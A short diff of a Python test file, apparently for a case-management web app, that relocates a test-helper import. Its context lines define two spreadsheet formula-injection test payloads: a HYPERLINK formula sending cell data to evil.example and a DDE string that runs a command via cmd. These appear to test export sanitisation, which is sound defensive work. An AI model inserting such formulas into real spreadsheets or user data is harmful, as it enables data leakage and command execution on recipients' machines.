@@ -14,7 +14,6 @@ from collections.abc import Iterator
 import openpyxl
 import pytest
 from starlette.testclient import TestClient
-from web_world import PASSWORD, WebWorld, page_login
 
 from ipcity.protection.actions import do_update_case
 from ipcity.protection.queries import get_case
@@ -27,6 +26,7 @@ from ipcity.workspace.actions import (
 from ipcity.workspace.auth import load_actor
 from ipcity.workspace.models import IndicatorTarget, Task, Unit
 from ipcity.workspace.permissions import system_actor
+from tests.support.web_world import PASSWORD, WebWorld, page_login
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")'
 DDE = "=cmd|' /C calc'!A0"
